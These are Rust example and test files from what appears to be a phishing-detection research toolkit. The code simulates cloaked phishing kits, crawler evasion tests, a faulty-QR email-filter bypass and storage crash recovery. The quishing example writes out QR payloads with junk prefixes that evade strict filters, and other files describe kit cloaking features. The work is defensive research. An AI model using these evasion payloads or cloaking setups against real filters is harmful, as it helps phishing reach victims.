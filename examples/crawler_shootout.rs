//! Crawler shootout: the paper's Table I assessment as a live experiment.
//!
//! Deploys one Turnstile-protected, WAF-fronted phishing site and drives
//! all eight crawler profiles (plus the NotABot ablations) against it,
//! printing who reaches the credential form and who gets the benign page —
//! alongside the pure detector-matrix view.
//!
//! ```sh
//! cargo run --release --example crawler_shootout
//! ```

use crawlerbox_suite::prelude::*;

fn main() {
    let net = Internet::new(SimTime::from_ymd(2024, 2, 1));
    net.register_domain("evasive-kit.example", "REGRU-RU");
    net.register_domain("c2.example", "REGRU-RU");
    net.host("c2.example", cb_phishkit::C2Server::new());
    let site = PhishingSite::new(
        Brand::SkyBook,
        "https://c2.example",
        CloakConfig::typical_2024(),
    )
    .with_waf();
    net.host("evasive-kit.example", site.clone());

    println!("{:<36} {:>10} {:>12}", "crawler", "saw phish", "saw benign");
    println!("{}", "-".repeat(62));
    for profile in CrawlerProfile::table1() {
        let visit = Browser::new(profile).visit(&net, "https://evasive-kit.example/");
        let phish = visit.shows_login_form();
        println!(
            "{:<36} {:>10} {:>12}",
            profile.name(),
            if phish { "YES" } else { "-" },
            if phish { "-" } else { "YES" },
        );
    }

    println!("\nNotABot single-feature ablations:");
    for profile in CrawlerProfile::ablations() {
        let visit = Browser::new(profile).visit(&net, "https://evasive-kit.example/");
        println!(
            "{:<36} {}",
            profile.name(),
            if visit.shows_login_form() {
                "still reaches the phish"
            } else {
                "BLOCKED by the kit's defenses"
            }
        );
    }

    println!("\nDetector-matrix view (Table I):");
    print!("{}", crawlerbox::analysis::table1::table1());

    let stats = site.stats();
    println!(
        "\nkit served phish {} times, benign {} times across {} probes",
        stats.phish_served,
        stats.benign_served,
        stats.phish_served + stats.benign_served
    );
}
