use crawlerbox_suite::prelude::*;

fn main() {
    for seed in [1u64, 7, 13, 21, 42, 55, 99] {
        let spec = CorpusSpec::paper().with_scale(1.0);
        let corpus = Corpus::generate(&spec, seed);
        let mut overlap_msgs = 0usize;
        let mut overlap = 0usize;
        for c in &corpus.campaigns {
            if c.cloak.client.victim_db_check && (c.cloak.client.otp_gate || c.cloak.client.math_challenge) {
                overlap += 1;
                overlap_msgs += c.message_count;
            }
        }
        println!("seed {seed}: overlap campaigns {overlap} msgs {overlap_msgs}");
        if overlap > 0 {
            let cbx = CrawlerBox::new(&corpus.world);
            for m in &corpus.messages {
                if let Some(ci) = m.truth.campaign {
                    let c = &corpus.campaigns[ci];
                    if c.cloak.client.victim_db_check && (c.cloak.client.otp_gate || c.cloak.client.math_challenge) {
                        let rec = cbx.scan(m);
                        println!("  msg {} truth {:?} derived {:?}", m.id, m.truth.class, rec.class);
                        break;
                    }
                }
            }
        }
    }
}
