//! Quickstart: build a tiny world, deploy one cloaked phishing site, scan a
//! reported message with CrawlerBox, and inspect the verdict.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use crawlerbox_suite::prelude::*;

fn main() {
    // 1. A simulated internet starting in January 2024, with the target
    //    company's legitimate login page online.
    let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
    let brand = Brand::Amadora;
    net.register_domain_at(
        brand.legit_domain(),
        "CORP-REG",
        SimTime::from_ymd(2018, 1, 1),
    );
    net.host(
        brand.legit_domain(),
        cb_phishkit::brand::LegitSite::new(brand),
    );

    // 2. The attacker registers a lookalike domain three weeks early (the
    //    paper's median: 24 days) and deploys a Turnstile-cloaked kit.
    net.register_domain_at(
        "cloud-portal-login.example",
        "REGRU-RU",
        SimTime::from_ymd(2024, 1, 2),
    );
    net.issue_certificate_at(
        "cloud-portal-login.example",
        SimTime::from_ymd(2024, 1, 15),
    );
    net.advance(SimDuration::days(23));
    let site = PhishingSite::new(brand, "https://cloud-portal-login.example", {
        let mut c = CloakConfig::typical_2024();
        c.client.hue_rotate = true;
        c
    });
    net.host("cloud-portal-login.example", site.clone());

    // 3. A user-reported message carrying the phishing URL.
    let raw = MessageBuilder::new()
        .from("it-desk@partner-billing.example")
        .to("victim-1@corp.example")
        .subject("Mailbox storage warning")
        .date("24 Jan 2024 09:15:00 +0000")
        .header(
            "Authentication-Results",
            "corp.example; spf=pass dkim=pass dmarc=pass",
        )
        .text_body(
            "Several messages are on hold.\r\n\r\nhttps://cloud-portal-login.example/a8k2mx9q\r\n",
        )
        .build();

    // 4. Scan it.
    let message = cb_phishgen::ReportedMessage {
        id: 0,
        raw,
        delivered_at: net.now(),
        victim: "victim-1@corp.example".to_string(),
        truth: cb_phishgen::GroundTruth {
            class: cb_phishgen::MessageClass::ActivePhish,
            campaign: None,
            carrier: cb_phishgen::messages::Carrier::BodyLink,
            spear: true,
            noise_padded: false,
            url: None,
        },
    };
    let cbx = CrawlerBox::new(&net);
    let record = cbx.scan(&message);

    // 5. Report.
    println!("extracted resources:");
    for r in &record.extracted {
        println!("  {} ({:?})", r.url, r.source);
    }
    for v in &record.visits {
        println!(
            "visit {} -> {:?} (status {}, login form: {})",
            v.requested_url, v.outcome, v.status, v.login_form
        );
        if let Some(m) = v.spear {
            println!(
                "  classified as SPEAR PHISHING impersonating {} (hash distance {})",
                m.brand, m.distance
            );
        }
        println!(
            "  landing domain registered {} / cert issued {} (timedeltas the paper tracks)",
            v.domain_registered_at
                .map(|t| t.to_string())
                .unwrap_or_else(|| "?".into()),
            v.cert_issued_at
                .map(|t| t.to_string())
                .unwrap_or_else(|| "?".into()),
        );
    }
    println!("derived class: {:?}", record.class);
    println!(
        "kit stats: phish served {} / benign served {}",
        site.stats().phish_served,
        site.stats().benign_served
    );
    assert_eq!(record.class, cb_phishgen::MessageClass::ActivePhish);
    assert!(record.spear_match().is_some(), "lookalike must be classified");
    println!("\nquickstart OK: the cloaked lookalike was crawled and classified.");
}
