//! Campaign forensics: generate a scaled-down corpus, scan it blind, and
//! walk through the §V-A deployment-timeline analysis the way an analyst
//! would — WHOIS age, certificate age, DNS query volumes, lexical tricks.
//!
//! ```sh
//! cargo run --release --example campaign_forensics
//! ```

use crawlerbox_suite::prelude::*;

fn main() {
    let spec = CorpusSpec::paper().with_scale(0.1);
    println!("generating a 10%-scale corpus ({} messages)...", {
        let m: usize = spec.monthly_2024.iter().map(|&n| spec.scaled(n)).sum();
        m
    });
    let corpus = Corpus::generate(&spec, 42);
    let cbx = CrawlerBox::new(&corpus.world);
    let records = cbx.scan_all(&corpus.messages);

    let report = analyze(&corpus.world, &spec, &records);

    println!("\n--- deployment timeline (Figure 3) ---");
    println!("{}", report.figure3);
    println!(
        "Interpretation: the median landing domain was registered {:.0} hours \
         (~{:.0} days) before its messages were delivered, and obtained its \
         certificate {:.0} hours (~{:.0} days) before — premeditation, not \
         the register-and-blast pattern of a decade ago.",
        report.figure3.describe_a.median * 24.0,
        report.figure3.describe_a.median,
        report.figure3.describe_b.median * 24.0,
        report.figure3.describe_b.median,
    );

    println!("\n--- volume profile ---");
    println!(
        "messages per domain: mean {:.2}, median {:.0}, max {}",
        report.volumes.mean_messages, report.volumes.median_messages, report.volumes.max_messages
    );
    println!(
        "passive DNS (30d): single-message domains {:.0} total queries vs \
         multi-message {:.0} — low-volume, targeted operations",
        report.volumes.single_median_total, report.volumes.multi_median_total
    );
    for (domain, queries, msgs) in &report.volumes.top_by_queries {
        println!("  top-queried: {domain} — {queries} queries, {msgs} messages");
    }

    println!("\n--- lexical profile of landing domains ---");
    println!(
        "{} of {} domains use deceptive naming ({:.1}%); punycode: {}",
        report.lexical.deceptive,
        report.lexical.total,
        report.lexical.deceptive as f64 * 100.0 / report.lexical.total.max(1) as f64,
        report.lexical.punycode
    );
    for (domain, technique) in report.lexical.flagged.iter().take(5) {
        println!("  {domain}: {technique:?}");
    }
    println!("  (most domains are lexically unremarkable — which is itself the finding)");

    println!("\n--- spear phishing ---");
    println!(
        "{} of {} active-phish messages impersonate the five companies \
         ({:.1}%); {} hotlink brand assets from the real org ({:.1}% of spear)",
        report.spear.spear,
        report.spear.active,
        report.spear.spear as f64 * 100.0 / report.spear.active.max(1) as f64,
        report.spear.hotlinking,
        report.spear.hotlinking as f64 * 100.0 / report.spear.spear.max(1) as f64,
    );

    println!("\n--- the attacker's haul (what the C2s collected) ---");
    println!(
        "shared C2 exfil reports: {}, victim-check lookups: A {} / B {}",
        corpus.c2_shared.visitor_reports().len(),
        corpus.c2_alpha.victim_checks().len(),
        corpus.c2_beta.victim_checks().len(),
    );
}
