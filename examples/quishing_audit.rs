//! Quishing audit: the faulty-QR filter-bypass bug, end to end.
//!
//! Encodes clean and faulty QR payloads into real symbols, renders them
//! into email-attached images, and runs three extraction policies over the
//! decoded payloads — the strict commercial-filter behaviour that misses
//! the faulty codes, the lenient mobile-camera behaviour victims
//! experience, and the patched policy the vendors deployed after the
//! paper's responsible disclosure (§V-C1, §VIII).
//!
//! ```sh
//! cargo run --release --example quishing_audit
//! ```

use cb_artifacts::qrimage;
use cb_qr::extract::{extract_url_lenient, extract_url_patched, extract_url_strict};
use crawlerbox_suite::prelude::*;

fn main() {
    let cases = [
        ("clean", "https://evil-site.example/dhfYWfH"),
        ("junk prefix", "xxx https://evil-site.example/dhfYWfH"),
        ("bracket prefix", "[https://evil-site.example/dhfYWfH"),
        ("not a url", "WIFI:T:WPA;S:cafe;P:pw;;"),
    ];

    println!(
        "{:<16} {:>14} {:>14} {:>14} {:>14}",
        "payload", "email filter", "victim phone", "patched", "crawlerbox"
    );
    println!("{}", "-".repeat(78));

    let mut filter_misses = 0;
    for (label, payload) in cases {
        // Encode into a real QR symbol and round-trip through an image, as
        // the corpus generator does for the 35 in-the-wild messages.
        let symbol = encode_bytes(payload.as_bytes(), EcLevel::M).expect("fits");
        let image = qrimage::render(symbol.matrix(), 2);
        let decoded = qrimage::decode_from_image(&image).expect("detector finds the symbol");
        assert_eq!(decoded, payload.as_bytes(), "lossless round trip");

        let strict = extract_url_strict(&decoded);
        let lenient = extract_url_lenient(&decoded);
        let patched = extract_url_patched(&decoded);
        let exposed = strict.is_none() && lenient.is_some();
        if exposed {
            filter_misses += 1;
        }
        let filter_verdict = match (&strict, &lenient) {
            (Some(_), _) => "caught",
            (None, Some(_)) => "MISSED",
            (None, None) => "no link",
        };
        println!(
            "{:<16} {:>14} {:>14} {:>14} {:>14}",
            label,
            filter_verdict,
            lenient.as_ref().map(|_| "opens link").unwrap_or("no link"),
            patched.map(|_| "caught").unwrap_or("no link"),
            if exposed { "flags faulty-QR" } else { "-" },
        );
    }

    println!(
        "\n{filter_misses} payload(s) slip past the strict filter while remaining \
         scannable by the victim's phone — the mismatch the paper found \
         exploited in 35 reported messages, now fixed by the disclosed patch."
    );

    // The full pipeline view: a message carrying a faulty QR is still
    // analyzed correctly by CrawlerBox, which uses the robust extraction.
    let net = Internet::new(SimTime::from_ymd(2024, 4, 1));
    net.register_domain("evil-site.example", "REGRU-RU");
    net.host("evil-site.example", PhishingSite::new(
        Brand::PayRoute,
        "https://evil-site.example",
        CloakConfig::none(),
    ));
    let mut rng = cb_sim::SeedFork::new(1).rng("example");
    let raw = cb_phishgen::messages::build_message(
        &mut rng,
        cb_phishgen::messages::Carrier::QrCode { faulty: true },
        Some("https://evil-site.example/dhfYWfH"),
        "victim-9@corp.example",
        net.now(),
        false,
        None,
        0,
    );
    let message = cb_phishgen::ReportedMessage {
        id: 0,
        raw,
        delivered_at: net.now(),
        victim: "victim-9@corp.example".to_string(),
        truth: cb_phishgen::GroundTruth {
            class: cb_phishgen::MessageClass::ActivePhish,
            campaign: None,
            carrier: cb_phishgen::messages::Carrier::QrCode { faulty: true },
            spear: true,
            noise_padded: false,
            url: None,
        },
    };
    let record = CrawlerBox::new(&net).scan(&message);
    println!(
        "\nCrawlerBox on the faulty-QR message: class {:?}, faulty-QR flagged: {}",
        record.class,
        record.has_faulty_qr()
    );
    assert!(record.has_faulty_qr());
}
