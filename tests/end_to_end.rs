//! End-to-end integration: corpus → CrawlerBox → analysis, asserting the
//! paper's headline shapes at reduced scale.

use cb_phishgen::{Corpus, CorpusSpec, MessageClass};
use crawlerbox::analysis::analyze;
use crawlerbox::CrawlerBox;

fn run(scale: f64, seed: u64) -> (Corpus, crawlerbox::analysis::AnalysisReport) {
    let spec = CorpusSpec::paper().with_scale(scale);
    let corpus = Corpus::generate(&spec, seed);
    let mut cbx = CrawlerBox::new(&corpus.world);
    cbx.parallelism = 8;
    let records = cbx.scan_all(&corpus.messages);
    let report = analyze(&corpus.world, &spec, &records);
    (corpus, report)
}

#[test]
fn headline_shapes_hold_at_ten_percent_scale() {
    let (corpus, report) = run(0.10, 2024);

    // Class mix tracks §V within a few points.
    let mix = &report.class_mix;
    assert_eq!(mix.total, corpus.messages.len());
    assert!((mix.percent(mix.no_resource) - 49.6).abs() < 4.0, "no-resource {:.1}%", mix.percent(mix.no_resource));
    assert!((mix.percent(mix.active_phish) - 29.9).abs() < 4.0, "active {:.1}%", mix.percent(mix.active_phish));
    assert!((mix.percent(mix.error_pages) - 15.9).abs() < 4.0);

    // Spear share ≈ 73.3%.
    let spear_share = report.spear.spear as f64 / report.spear.active.max(1) as f64;
    assert!((spear_share - 0.733).abs() < 0.08, "spear share {spear_share}");

    // Hotlinking ≈ 29.8% of spear.
    let hotlink_share = report.spear.hotlinking as f64 / report.spear.spear.max(1) as f64;
    assert!((hotlink_share - 0.298).abs() < 0.10, "hotlink share {hotlink_share}");

    // Lexical ≈ 15.7%, zero punycode.
    let lex_share = report.lexical.deceptive as f64 / report.lexical.total.max(1) as f64;
    assert!((lex_share - 0.157).abs() < 0.06, "lexical share {lex_share}");
    assert_eq!(report.lexical.punycode, 0);

    // Volume shape: median 1 message/domain, low-volume singles.
    assert_eq!(report.volumes.median_messages, 1.0);
    assert!(report.volumes.single_median_total < report.volumes.multi_median_total);

    // Timeline shape: registration long before certificate before delivery.
    assert!(report.figure3.describe_a.median > report.figure3.describe_b.median);
    assert!(report.figure3.describe_a.skewness > 1.0, "right-skewed");
    assert!(report.figure3.a_over_90d > report.figure3.b_over_90d);

    // Challenge gating ≈ 74%+ of credential messages.
    let (gated, total) = report.challenge_gating;
    assert!(total > 0);
    assert!(gated as f64 / total as f64 > 0.5, "gating {gated}/{total}");

    // Table I invariants.
    assert_eq!(report.table1.rows.iter().filter(|r| r.passes_all()).count(), 3);

    // Monthly series: 10 months, downward.
    assert_eq!(report.figure2.series.len(), 10);
    let first = report.figure2.series[0].2;
    let last = report.figure2.series[9].2;
    assert!(first > 2 * last, "downward trend {first} -> {last}");

    // t-test: 2023 volumes significantly above 2024.
    let t = report.t_test.expect("10-month windows");
    assert!(t.rejects_null_at(0.05), "{t}");
    assert!(t.mean_diff > 0.0, "2023 exceeded 2024");
}

#[test]
fn crawlerbox_agrees_with_ground_truth_classes() {
    let spec = CorpusSpec::paper().with_scale(0.05);
    let corpus = Corpus::generate(&spec, 7);
    let cbx = CrawlerBox::new(&corpus.world);
    let records = cbx.scan_all(&corpus.messages);
    let mut confusion = std::collections::BTreeMap::new();
    for (r, m) in records.iter().zip(&corpus.messages) {
        *confusion
            .entry((m.truth.class, r.class))
            .or_insert(0usize) += 1;
    }
    let agree: usize = confusion
        .iter()
        .filter(|((t, d), _)| t == d)
        .map(|(_, n)| n)
        .sum();
    let total = corpus.messages.len();
    assert!(
        agree as f64 / total as f64 > 0.95,
        "agreement {agree}/{total}; confusion: {confusion:?}"
    );
}

#[test]
fn weak_crawler_sees_far_fewer_phish_pages() {
    // The Table I result as a corpus-level outcome: swapping NotABot for a
    // stealth-plugin crawler collapses the active-phish yield.
    let spec = CorpusSpec::paper().with_scale(0.04);
    let corpus = Corpus::generate(&spec, 11);
    let strong = CrawlerBox::new(&corpus.world);
    let weak = CrawlerBox::new(&corpus.world)
        .with_profile(cb_browser::CrawlerProfile::PuppeteerStealth);
    let strong_records = strong.scan_all(&corpus.messages);
    let weak_records = weak.scan_all(&corpus.messages);
    let phish = |records: &[crawlerbox::ScanRecord]| {
        records
            .iter()
            .filter(|r| r.class == MessageClass::ActivePhish)
            .count()
    };
    let strong_n = phish(&strong_records);
    let weak_n = phish(&weak_records);
    assert!(
        weak_n * 2 < strong_n,
        "weak crawler found {weak_n} vs NotABot {strong_n}"
    );
}

#[test]
fn deterministic_end_to_end() {
    let (_, a) = run(0.02, 5);
    let (_, b) = run(0.02, 5);
    assert_eq!(a.class_mix, b.class_mix);
    assert_eq!(a.table2, b.table2);
    assert_eq!(a.spear, b.spear);
}

#[test]
fn referral_tracking_defence_detects_lookalikes_early() {
    // §V-A: "by identifying referrals in requests made for the
    // aforementioned web resources within their own systems, organizations
    // can track, at early stages, pages impersonating their login sites."
    let spec = CorpusSpec::paper().with_scale(0.08);
    let corpus = Corpus::generate(&spec, 3);
    let records = CrawlerBox::new(&corpus.world).scan_all(&corpus.messages);

    // Which hotlinking lookalike domains did the pipeline observe?
    let observed_hotlinkers: std::collections::BTreeSet<String> = records
        .iter()
        .filter_map(|r| r.phish_visit())
        .filter(|v| {
            v.subresources.iter().any(|(u, status)| {
                *status == 200
                    && cb_phishkit::Brand::companies()
                        .iter()
                        .any(|b| u.contains(b.legit_domain()))
            })
        })
        .filter_map(|v| v.landing_domain())
        .collect();
    assert!(!observed_hotlinkers.is_empty(), "some campaigns hotlink");

    // Every one of them must already be visible in the organizations' own
    // asset-referral logs — no email access required.
    let mut logged_referrers: std::collections::BTreeSet<String> =
        std::collections::BTreeSet::new();
    for (_, site) in &corpus.legit_sites {
        for referer in site.foreign_referrals() {
            if let Ok(u) = cb_netsim::Url::parse(&referer) {
                logged_referrers.insert(u.host);
            }
        }
    }
    for domain in &observed_hotlinkers {
        assert!(
            logged_referrers.contains(domain),
            "hotlinker {domain} missing from the org-side referral logs"
        );
    }
}

#[test]
fn fallback_crawlers_recover_what_a_weak_primary_misses() {
    // The paper's future-work item: diversified crawler components. A
    // pipeline whose primary is the stealth-plugin crawler misses
    // Turnstile-gated kits; with NotABot as fallback it recovers them.
    let spec = CorpusSpec::paper().with_scale(0.03);
    let corpus = Corpus::generate(&spec, 19);
    let weak_only = CrawlerBox::new(&corpus.world)
        .with_profile(cb_browser::CrawlerProfile::PuppeteerStealth);
    let weak_with_fallback = CrawlerBox::new(&corpus.world)
        .with_profile(cb_browser::CrawlerProfile::PuppeteerStealth)
        .with_fallbacks(&[cb_browser::CrawlerProfile::NotABot]);
    let phish = |records: &[crawlerbox::ScanRecord]| {
        records
            .iter()
            .filter(|r| r.class == MessageClass::ActivePhish)
            .count()
    };
    let alone = phish(&weak_only.scan_all(&corpus.messages));
    let diversified = phish(&weak_with_fallback.scan_all(&corpus.messages));
    let truth = corpus
        .messages
        .iter()
        .filter(|m| m.truth.class == MessageClass::ActivePhish)
        .count();
    assert!(alone < diversified, "fallback must add coverage ({alone} vs {diversified})");
    assert!(
        diversified as f64 >= truth as f64 * 0.9,
        "diversified pipeline recovers most phish ({diversified}/{truth})"
    );
}
