//! Crash-consistency sweep for the sharded store, driven by the
//! deterministic [`FaultVfs`] fault injector.
//!
//! The core harness probes a reference run to count every mutating I/O
//! operation, then replays the run crashing at *each* of them in turn:
//! after every simulated power cut the on-disk state is rewritten to what
//! a real crash could have left (unsynced tails torn, un-fsynced renames
//! rolled back), the store is reopened, and the sweep asserts the
//! recovery contract:
//!
//! * no acknowledged record is ever lost (an ack is an append under
//!   `fsync_each_append`),
//! * crash artifacts never quarantine a shard (quarantine is for real
//!   corruption, not power cuts),
//! * a crash between blob write and frame append leaves at worst an
//!   orphan blob (GC-able), never a frame whose evidence is missing,
//! * an incremental re-scan refills exactly the lost records and the
//!   final log is bit-identical to a never-crashed run.
//!
//! `CB_CHAOS_SEED` (default 1) picks the fault-injection seed and
//! `CB_CHAOS_SHARDS` pins a single shard count (default: sweep 1 and 4);
//! CI runs the sweep across seeds and shard counts.

use cb_artifacts::fingerprint::fnv128;
use cb_phishgen::MessageClass;
use cb_sim::SimTime;
use cb_store::{FaultVfs, IoFaultKind, IoFaultPlan, Store, StoreOptions, Vfs};
use crawlerbox::{ArtifactKind, CapturedArtifact, ScanRecord};
use std::path::PathBuf;
use std::sync::Arc;

fn scratch(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("cb-chaos-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Deterministic sweep options: single-threaded recovery (so the mutating
/// op sequence is identical across probe and crash runs), a small segment
/// target (so the sweep crosses segment seals and rolls), and
/// `fsync_each_append` (so every `Ok` append is an acknowledged record).
fn sweep_opts(shards: usize) -> StoreOptions {
    StoreOptions {
        segment_target_bytes: 256,
        fsync_each_append: true,
        shards,
        recovery_workers: 1,
        ..StoreOptions::default()
    }
}

/// A small corpus of synthetic records: artifacts on most (blob path),
/// none on one (bare-frame path), and one shared artifact (dedup path).
fn chaos_records() -> Vec<ScanRecord> {
    let shared = b"shared screenshot bitmap".to_vec();
    (0..6usize)
        .map(|id| {
            let body = format!("chaos message body {id}").into_bytes();
            let mut artifacts = Vec::new();
            if id != 2 {
                artifacts.push(CapturedArtifact {
                    kind: ArtifactKind::Message,
                    hash: fnv128(&body),
                    bytes: body.clone(),
                });
            }
            if id == 1 || id == 5 {
                artifacts.push(CapturedArtifact {
                    kind: ArtifactKind::Screenshot,
                    hash: fnv128(&shared),
                    bytes: shared.clone(),
                });
            }
            ScanRecord {
                message_id: id,
                content_hash: fnv128(&body),
                delivered_at: SimTime::EPOCH,
                auth_pass: id % 2 == 0,
                extracted: Vec::new(),
                visits: Vec::new(),
                body_bytes: body.len(),
                blank_line_run: 0,
                class: MessageClass::NoResource,
                error: None,
                artifacts,
            }
        })
        .collect()
}

fn env_u64(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

/// The tentpole acceptance test: crash at every mutating I/O operation of
/// a full store run; recovery must lose zero acked records, never
/// quarantine, and a delta re-scan must rebuild the exact byte-identical
/// log of a never-crashed run.
#[test]
fn crash_point_sweep_loses_no_acked_records() {
    let seed = env_u64("CB_CHAOS_SEED", 1);
    let shard_counts: Vec<usize> = match std::env::var("CB_CHAOS_SHARDS") {
        Ok(v) => vec![v.parse().expect("CB_CHAOS_SHARDS must be a shard count")],
        Err(_) => vec![1, 4],
    };
    let records = chaos_records();

    for &shards in &shard_counts {
        // Golden run: a never-crashed store on the real file system.
        let golden_dir = scratch(&format!("golden-{shards}"));
        let mut golden_store = Store::open_with(&golden_dir, sweep_opts(shards)).unwrap();
        for r in &records {
            golden_store.append(r).unwrap();
        }
        let golden = golden_store.read_payloads().unwrap();
        let golden_blobs = golden_store.blobs().hashes();
        drop(golden_store);
        std::fs::remove_dir_all(&golden_dir).unwrap();

        // Probe run: count the mutating ops of the full run.
        let probe_dir = scratch(&format!("probe-{shards}"));
        let probe = FaultVfs::new(IoFaultPlan::counting(seed));
        let probe_vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&probe));
        let mut store = Store::open_with_vfs(&probe_dir, sweep_opts(shards), probe_vfs).unwrap();
        for r in &records {
            store.append(r).unwrap();
        }
        drop(store);
        std::fs::remove_dir_all(&probe_dir).unwrap();
        let ops = probe.ops();
        assert!(ops > 20, "probe must see a realistic op count, got {ops}");

        let mut orphan_crash_points = 0usize;
        for crash_at in 1..=ops {
            let dir = scratch(&format!("sweep-{shards}-{crash_at}"));
            let fault = FaultVfs::new(IoFaultPlan::crash_at(seed, crash_at));
            let vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&fault));
            let mut acked: Vec<u128> = Vec::new();
            match Store::open_with_vfs(&dir, sweep_opts(shards), vfs) {
                Err(_) => {} // crashed while creating the store
                Ok(mut store) => {
                    for r in &records {
                        match store.append(r) {
                            Ok(()) => acked.push(r.content_hash),
                            Err(_) => break,
                        }
                    }
                }
            }
            assert!(
                fault.crashed(),
                "shards {shards}: crash point {crash_at}/{ops} was never reached"
            );
            fault.apply_crash().unwrap();

            // Power is back: recover on the real file system.
            let mut store = Store::open_with(&dir, sweep_opts(shards)).unwrap();
            assert!(
                store.recovery().quarantined.is_empty(),
                "shards {shards} crash {crash_at}: crash artifacts must never quarantine: {:?}",
                store.recovery().quarantined
            );
            for h in &acked {
                assert!(
                    store.contains_hash(*h),
                    "shards {shards} crash {crash_at}: acked record {h:032x} lost \
                     ({} of {} acked, {} recovered)",
                    acked.len(),
                    records.len(),
                    store.len()
                );
            }
            // Every surviving frame's evidence must resolve (a dangling
            // blob ref is the bug class the blob-before-frame ordering
            // exists to prevent); at worst the crash left orphan blobs.
            assert!(
                store.verify().unwrap().is_clean(),
                "shards {shards} crash {crash_at}: recovered store fails verify"
            );
            let orphans = store.gc_orphan_blobs().unwrap();
            if !orphans.is_empty() {
                orphan_crash_points += 1;
            }

            // Delta re-scan: refill exactly the lost records.
            let known = store.known_hashes();
            let refilled = records.iter().filter(|r| !known.contains(&r.content_hash));
            for r in refilled {
                store.append(r).unwrap();
            }
            store.sync().unwrap();
            assert_eq!(store.len(), records.len(), "shards {shards} crash {crash_at}");
            assert_eq!(
                store.read_payloads().unwrap(),
                golden,
                "shards {shards} crash {crash_at}: refilled log is not bit-identical"
            );
            assert_eq!(
                store.blobs().hashes(),
                golden_blobs,
                "shards {shards} crash {crash_at}: blob set diverged"
            );
            assert!(store.verify().unwrap().is_clean());
            assert_eq!(
                store.gc_orphan_blobs().unwrap(),
                Vec::<u128>::new(),
                "shards {shards} crash {crash_at}: refill must re-reference every blob"
            );
            drop(store);
            std::fs::remove_dir_all(&dir).unwrap();
        }
        eprintln!(
            "chaos sweep shards={shards} seed={seed}: {ops} crash points, \
             {orphan_crash_points} left orphan blobs (GC'd)"
        );
    }
}

/// The blob-write/frame-append crash window, pinned: crash exactly at the
/// segment fsync that follows the blob-directory fsync. The blob is
/// durable, the frame is not — recovery must either keep the whole pair
/// (the tail happened to survive) or drop the frame and leave an orphan
/// blob for GC. It must never surface a record whose blob is gone.
#[test]
fn crash_between_blob_write_and_frame_append_leaves_orphan_not_dangling() {
    let records = chaos_records();
    let record = &records[0];
    assert!(!record.artifacts.is_empty(), "the window needs an artifact");

    // Probe the op count of open + one acked append; the run's last three
    // ops are: blobs sync-dir, segment fsync, generation sync-dir.
    let probe_dir = scratch("window-probe");
    let probe = FaultVfs::new(IoFaultPlan::counting(0));
    let probe_vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&probe));
    let mut store = Store::open_with_vfs(&probe_dir, sweep_opts(1), probe_vfs).unwrap();
    store.append(record).unwrap();
    drop(store);
    std::fs::remove_dir_all(&probe_dir).unwrap();
    let segment_fsync_op = probe.ops() - 1;

    // The surviving-tail length is seed-dependent; across a handful of
    // seeds the frame must get torn at least once, orphaning the blob.
    let mut saw_orphan = false;
    for seed in 0..16u64 {
        let dir = scratch(&format!("window-{seed}"));
        let fault = FaultVfs::new(IoFaultPlan::crash_at(seed, segment_fsync_op));
        let vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&fault));
        let mut store = Store::open_with_vfs(&dir, sweep_opts(1), vfs).unwrap();
        store.append(record).unwrap_err();
        drop(store);
        fault.apply_crash().unwrap();

        let mut store = Store::open_with(&dir, sweep_opts(1)).unwrap();
        assert!(store.recovery().quarantined.is_empty(), "seed {seed}");
        assert!(store.verify().unwrap().is_clean(), "seed {seed}: dangling evidence");
        if store.is_empty() {
            // Frame torn away; the blob write before it must remain as a
            // GC-able orphan (the blob directory was fsynced first).
            let removed = store.gc_orphan_blobs().unwrap();
            assert!(!removed.is_empty(), "seed {seed}: durable blob should be orphaned");
            assert!(store.blobs().is_empty());
            saw_orphan = true;
        } else {
            // The unsynced tail happened to survive whole: then the record
            // is intact and its evidence resolves.
            assert_eq!(store.len(), 1, "seed {seed}");
            assert!(store.contains_hash(record.content_hash), "seed {seed}");
        }
        drop(store);
        std::fs::remove_dir_all(&dir).unwrap();
        if saw_orphan {
            break;
        }
    }
    assert!(saw_orphan, "no seed in 0..16 tore the frame — the window is not exercised");
}

/// Transient faults (disk-full, fsync failure) surface as append errors
/// without corrupting the log: every acked record survives reopen, the
/// store never quarantines, and verify stays clean.
#[test]
fn transient_io_faults_fail_appends_without_corrupting_the_log() {
    let seed = env_u64("CB_CHAOS_SEED", 1);
    let records = chaos_records();
    let dir = scratch("transient");
    let plan = IoFaultPlan {
        seed,
        rate: 0.25,
        // Short writes are crash territory (they tear the log mid-frame and
        // demand a reopen); the recoverable transients are the ones a
        // caller may see and retry *a different record* after.
        kinds: vec![IoFaultKind::DiskFull, IoFaultKind::FsyncFail],
        crash_at: None,
    };
    let fault = FaultVfs::new(plan);
    let vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&fault));
    let mut acked = Vec::new();
    match Store::open_with_vfs(&dir, sweep_opts(2), vfs) {
        Err(_) => {} // creation itself may fault; nothing was acked
        Ok(mut store) => {
            for r in &records {
                if store.append(r).is_ok() {
                    acked.push(r.content_hash);
                }
            }
        }
    }

    let mut store = Store::open_with(&dir, sweep_opts(2)).unwrap();
    assert!(store.recovery().quarantined.is_empty(), "transient faults must not quarantine");
    for h in &acked {
        assert!(store.contains_hash(*h), "acked record {h:032x} lost to a transient fault");
    }
    assert!(store.verify().unwrap().is_clean());
    std::fs::remove_dir_all(&dir).unwrap();
}
