//! Crash-consistency sweep for the sharded store, driven by the
//! deterministic [`FaultVfs`] fault injector.
//!
//! The core harness probes a reference run to count every mutating I/O
//! operation, then replays the run crashing at *each* of them in turn:
//! after every simulated power cut the on-disk state is rewritten to what
//! a real crash could have left (unsynced tails torn, un-fsynced renames
//! rolled back), the store is reopened, and the sweep asserts the
//! recovery contract:
//!
//! * no acknowledged record is ever lost (an ack is an append under
//!   `fsync_each_append`),
//! * crash artifacts never quarantine a shard (quarantine is for real
//!   corruption, not power cuts),
//! * a crash between blob write and frame append leaves at worst an
